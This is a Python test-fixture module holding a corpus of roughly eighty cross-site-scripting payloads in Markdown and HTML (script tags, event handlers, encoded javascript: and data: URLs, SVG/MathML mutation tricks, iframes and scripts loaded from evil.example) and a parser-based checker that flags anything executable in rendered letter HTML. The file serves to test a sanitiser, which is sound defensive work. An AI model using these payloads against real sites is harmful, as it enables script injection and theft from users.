"""Hostile Markdown for every place a letter becomes HTML, and a check that nothing in it can run.

Shared by the rendering, API, public page, feed and PDF tests::

    from tests.letters.xss_corpus import PAYLOADS, executable_parts

    @pytest.mark.parametrize(("name", "payload"), PAYLOADS, ids=[name for name, _ in PAYLOADS])
    def test_...(name, payload):
        ...
        assert executable_parts(letter_fragment) == []

``executable_parts`` reads a fragment with ``html.parser`` (as a browser would
tokenise it) and lists what could execute; apply it to the letter's part of a page,
since the page's own layout links its stylesheet.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

#: (name, Markdown source). Each carries the marker text "payload-" so a test can check
#: the harmless text around the attack still reaches the reader where that applies.
PAYLOADS: list[tuple[str, str]] = [
    # script and style, in various spellings
    ("script", "<script>alert(1)</script>"),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-upper-src", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    ("script-slash-attr", '<script/xss src="//evil.example/x.js"></script>'),
    ("script-nested", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-double-angle", "<<script>script>alert(1)<</script>/script>"),
    ("script-in-paragraph", "payload-para <script>alert(1)</script> text"),
    ("style-block", '<style>body{background:url("javascript:alert(1)")}</style>'),
    ("style-import", "<STYLE>@import'//evil.example/x.css';</STYLE>"),
    ("style-attribute", '<p style="background:url(javascript:alert(1))">payload-styled</p>'),
    ("css-expression", '<div style="width: expression(alert(1));">payload-expression</div>'),
    # event handlers
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("onclick", '<p onclick="alert(1)">payload-click</p>'),
    ("link-onmouseover", '<a href="https://ok.example" onmouseover="alert(1)">payload-hover</a>'),
    ("body-onload", "<body onload=alert(1)>payload-body"),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>payload-details</summary></details>"),
    ("input-onfocus", "<input autofocus onfocus=alert(1)>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>payload-marquee</marquee>"),
    ("allowed-tag-handler", '<sup onclick="alert(1)">payload-sup</sup>'),
    ("fragment-link-handler", '<a href="#" onclick="alert(1)">payload-fragment</a>'),
    ("unknown-tag-handler", "<x onclick=alert(1)>payload-custom</x>"),
    ("video-source-onerror", '<video><source onerror="alert(1)"></video>'),
    # javascript:, vbscript: and data: URLs, in any case and encoding
    ("href-javascript", '<a href="javascript:alert(1)">payload-js</a>'),
    ("href-javascript-case", '<A HREF="JaVaScRiPt:alert(1)">payload-js-case</A>'),
    ("href-javascript-unquoted", "<a href=javascript:alert(1)>payload-unquoted</a>"),
    ("href-leading-space", '<a href="  javascript:alert(1)">payload-space</a>'),
    ("href-tab-inside", '<a href="java\tscript:alert(1)">payload-tab</a>'),
    ("href-entity-tab", '<a href="java&#x09;script:alert(1)">payload-entity-tab</a>'),
    ("href-entity-newline", '<a href="jav&#x0A;ascript:alert(1)">payload-entity-newline</a>'),
    ("href-named-newline", '<a href="jav&NewLine;ascript:alert(1)">payload-named-newline</a>'),
    ("href-control-prefix", '<a href="&#14;javascript:alert(1)">payload-control</a>'),
    ("href-hex-entity", '<a href="&#x6A;avascript:alert(1)">payload-hex</a>'),
    (
        "href-decimal-entities",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">payload-dec</a>',
    ),
    ("href-padded-entities", '<a href="&#0000106&#0000097vascript:alert(1)">payload-padded</a>'),
    ("href-named-colon", '<a href="javascript&colon;alert(1)">payload-colon</a>'),
    ("href-unicode-escape", '<a href="\\u006Aavascript:alert(1)">payload-unicode-escape</a>'),
    ("href-vbscript", '<a href="vbscript:msgbox(1)">payload-vb</a>'),
    ("href-data-base64", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">payload-data</a>'),
    ("href-data-upper", '<a href="DATA:text/html,<script>alert(1)</script>">payload-data-upper</a>'),
    ("img-srcset", '<img srcset="javascript:alert(1)">'),
    ("table-background", '<table background="javascript:alert(1)"><tr><td>payload-cell</td></tr></table>'),
    # Markdown's own links and images
    ("md-link-javascript", "[payload-md](javascript:alert(1))"),
    ("md-link-upper", "[payload-md-upper](JAVASCRIPT:alert(1))"),
    ("md-link-entity", "[payload-md-entity](&#x6A;avascript:alert(1))"),
    ("md-link-data", "[payload-md-data](data:text/html;base64,PHNjcmlwdD4=)"),
    ("md-link-title-breakout", '[payload-title](https://ok.example "x\\" onmouseover=\\"alert(1)")'),
    ("md-image-javascript", "![payload-img](javascript:alert(1))"),
    ("md-image-breakout", '![payload-img2](x" onerror="alert(1))'),
    ("md-reference", "[payload-ref][evil]\n\n[evil]: javascript:alert(1)"),
    ("md-reference-data", "[payload-ref-data][d]\n\n[d]: data:text/html;base64,PHNjcmlwdD4="),
    ("md-reference-vbscript", '[payload-ref-vb][v]\n\n[v]: VBScript:msgbox(1) "title"'),
    ("md-autolink-javascript", "<javascript:alert(1)>"),
    ("md-autolink-breakout", '<https://ok.example/"onmouseover="alert(1)>'),
    ("md-link-in-footnote", "payload-fn[^1]\n\n[^1]: [x](javascript:alert(1))"),
    # SVG and MathML
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">svg</text></a></svg>'),
    ("math-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>"),
    # frames, objects, forms and document-level tags
    ("iframe", '<iframe src="https://evil.example"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("object", '<object data="javascript:alert(1)"></object>'),
    ("embed", '<embed src="javascript:alert(1)">'),
    (
        "form-formaction",
        '<form action="https://evil.example"><input type="submit" formaction="javascript:alert(1)"></form>',
    ),
    ("button-formaction", '<button formaction="javascript:alert(1)">payload-button</button>'),
    ("isindex", "<isindex action=javascript:alert(1) type=submit>"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-href", '<base href="javascript:alert(1)//">'),
    ("link-stylesheet", '<link rel="stylesheet" href="javascript:alert(1)">'),
    ("template", "<template><script>alert(1)</script></template>"),
    ("textarea", "<textarea><script>alert(1)</script></textarea>"),
    # comments and broken markup
    ("comment-script", "<!-- <script>alert(1)</script> -->payload-after-comment"),
    ("conditional-comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ("comment-in-attribute", '<a href="https://ok.example/<!--">payload-c</a><script>alert(1)</script>-->'),
    ("unclosed-img", '<img src="x" onerror="alert(1)"'),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("footnote-class-abuse", '<div id="fn:1" class="footnote x" onclick="alert(1)">payload-div</div>'),
]

#: Elements that run code, load other documents or change how the page resolves URLs.
FORBIDDEN_TAGS = frozenset(
    {
        "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math",
        "form", "input", "button", "select", "textarea", "isindex", "base", "meta", "link", "template",
        "noscript", "video", "audio", "source",
    }
)  # fmt: skip
URL_ATTRIBUTES = frozenset(
    {"href", "src", "srcset", "action", "formaction", "data", "xlink:href", "background", "poster", "cite"}
)
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")


def url_scheme(value: str) -> str | None:
    """The scheme a browser would see: entities are already decoded by the parser; then
    whitespace and control characters (which browsers skip) go and case is folded."""
    cleaned = "".join(ch for ch in value if not (ch.isspace() or ord(ch) < 0x20 or ord(ch) == 0x7F)).lower()
    match = _SCHEME.match(cleaned)
    return match.group(1) if match else None


class _Finder(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}> element")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.problems.append(f"{name} attribute on <{tag}>")
            elif name in URL_ATTRIBUTES and value is not None:
                scheme = url_scheme(value)
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    self.problems.append(f"{scheme}: URL in {name} on <{tag}>")

    handle_startendtag = handle_starttag


def executable_parts(html: str) -> list[str]:
    """What in ``html`` could run or load code; empty when the fragment is inert."""
    finder = _Finder()
    finder.feed(html)
    finder.close()
    return finder.problems
